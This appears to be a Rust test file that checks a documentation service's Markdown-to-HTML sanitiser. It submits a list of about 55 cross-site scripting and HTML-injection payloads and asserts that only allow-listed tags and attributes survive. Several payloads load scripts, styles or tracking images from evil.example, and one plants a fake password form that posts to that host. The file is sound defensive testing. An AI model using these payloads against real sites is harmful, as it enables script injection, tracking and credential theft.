//! What somebody might write to make a reader's browser do something: none of it comes through.

use http::StatusCode;
use serde_json::json;

use crate::projects::Bare;
use crate::world::{run, world};

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.png\">",
    "![](https://evil.example/track.png)",
    "![a](javascript:alert(1))",
    "![a\" onerror=\"alert(1)](x)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](&#x6a;avascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\u{1}javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](//evil.example)",
    "[a](/api/trash)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\" onclick=alert(1) style=\"position:fixed\" target=_blank>x</a>",
    "[a](https://x.example/\"onmouseover=\"alert(1))",
    "[a](https://x.example 'onmouseover=alert(1)')",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=x>",
    "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></main><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "```html\"><script>alert(1)</script>\nx\n```",
    "```x onload=alert(1) class=\"y\nx\n```",
    "# x {#\"onmouseover=alert(1)}",
    "# <b onmouseover=alert(1)>x</b><script>alert(1)</script>",
    "<h2 id=\"a\" onclick=alert(1)>x</h2><h3 id='\"><script>'>y</h3>",
    "| a |\n|---|\n| <script>alert(1)</script> `</code><script>alert(1)</script>` |",
    "> - <div onclick=alert(1)>\n>   [x](javascript:alert(1))",
    "`<script>alert(1)</script>` <code class=\"language-x\" onclick=alert(1)>y</code>",
    "<a href=\"#x\" id=body name=cookie>x</a><p id=location>y</p>",
];

const TAGS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "var",
];

#[test]
fn nothing_that_runs_or_loads_comes_through() {
    run(async {
        let project = Bare::new().await;
        for attack in ATTACKS {
            let body = json!({ "content": format!("# Title\n\n{attack}\n\nend\n") });
            let path = project.path("/docs");
            let made = world()
                .await
                .post(&path)
                .bearer(&project.owner.token)
                .json(&body)
                .send()
                .await;
            made.expect(StatusCode::CREATED);
            let path = project.path("/docs/latest?format=html");
            let page = world().await.get(&path).bearer(&project.owner.token).send().await;
            assert_eq!(page.status, StatusCode::OK);
            let (head, rest) = page.text.split_once("<main>").unwrap();
            let (main, foot) = rest.rsplit_once("</main>").unwrap();
            let mut faults = faults(main);
            if head.matches('<').count() != 11 || foot.matches('<').count() != 4 {
                faults.push(format!("the frame is another: {head} … {foot}"));
            }
            assert!(faults.is_empty(), "{attack}\nbecame {main}\n{}", faults.join("\n"));
        }
    });
}

/// What in sanitised HTML is not on the list.
fn faults(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let (tag, behind) = tag(rest);
        rest = behind;
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        if !TAGS.contains(&name.as_str()) {
            faults.push(format!("<{tag}>"));
        }
        for (attribute, value) in attributes(tag) {
            let fine = match attribute.as_str() {
                "href" => ["https://", "http://", "mailto:", "#"]
                    .iter()
                    .any(|start| value.starts_with(start)),
                "rel" => value == "noopener noreferrer nofollow",
                "id" => value.chars().all(|c| c.is_alphanumeric() || "-_".contains(c)),
                "class" => value.starts_with("language-") && !value.contains(['"', '<', ' ']),
                "open" | "start" => true,
                _ => false,
            };
            if !fine {
                faults.push(format!("{attribute}=\"{value}\" in <{tag}>"));
            }
        }
    }
    faults
}

/// A tag up to its end outside of quotes, and what stands behind it.
fn tag(text: &str) -> (&str, &str) {
    let mut quoted = false;
    for (at, c) in text.char_indices() {
        match c {
            '"' => quoted = !quoted,
            '>' if !quoted => return (&text[..at], &text[at + 1..]),
            _ => {}
        }
    }
    (text, "")
}

/// The attributes of a tag as the serialiser writes them: `name="value"`.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    while let Some((name, behind)) = rest.split_once("=\"") {
        let (value, behind) = behind.split_once('"').unwrap_or((behind, ""));
        found.push((name.trim().to_owned(), value.to_owned()));
        rest = behind;
    }
    if !rest.trim().is_empty() {
        found.push((rest.trim().to_owned(), String::new()));
    }
    found
}

#[test]
fn the_scan_notices_what_it_is_for() {
    for bad in [
        "<script>",
        "<img>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"/x\">",
        "<p style=\"x\">",
        "<h1 id=\"a b\">",
    ] {
        assert_eq!(faults(bad).len(), 1, "{bad}");
    }
    assert_eq!(
        faults("<p>a &lt;script&gt; <a href=\"#x\" rel=\"noopener noreferrer nofollow\">x</a></p>"),
        Vec::<String>::new()
    );
}
